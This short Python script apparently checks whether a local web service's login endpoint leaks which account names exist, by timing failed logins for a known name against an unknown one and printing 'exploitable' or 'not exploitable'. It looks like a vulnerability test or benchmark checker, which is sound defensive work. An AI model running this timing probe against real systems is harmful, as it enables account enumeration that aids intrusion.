import os
import sys
import time
import traceback

import httpx

BASE = os.environ.get("BASE_URL", "http://127.0.0.1:8000")
c = httpx.Client(base_url=BASE, timeout=60)


def _fail(t, v, tb):
    traceback.print_exception(t, v, tb)
    os._exit(2)


sys.excepthook = _fail


def done(hit):
    print("exploitable" if hit else "not exploitable")
    sys.exit(0 if hit else 1)


def took(name):
    t = time.perf_counter()
    r = c.post("/login", json={"name": name, "password": "not-the-password"})
    assert r.status_code == 401
    return time.perf_counter() - t


took("warmup")
known = sorted(took("manager") for _ in range(4))[1]
unknown = sorted(took("nosuchname") for _ in range(4))[1]
print(known, unknown)
done(known > 3 * unknown)
